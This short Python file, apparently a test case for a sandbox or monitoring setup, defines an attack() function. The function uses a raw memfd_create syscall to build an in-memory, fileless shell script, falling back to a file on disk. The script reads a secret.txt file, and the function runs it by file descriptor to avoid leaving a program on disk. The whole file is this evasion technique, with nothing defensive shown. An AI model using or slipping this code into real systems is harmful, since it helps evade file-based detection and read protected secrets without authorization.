"""Becomes a program that was never a file."""
# ruff: noqa

import ctypes, os


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    number = libc.syscall(319, b"x", 0)
    if number < 0:
        number = os.open("x", os.O_CREAT | os.O_RDWR, 0o755)
    os.write(number, b"#!/bin/sh\ncat " + FACTS["folder"].encode() + b"/secret.txt\n")
    os.execve(number, ["x"], {})
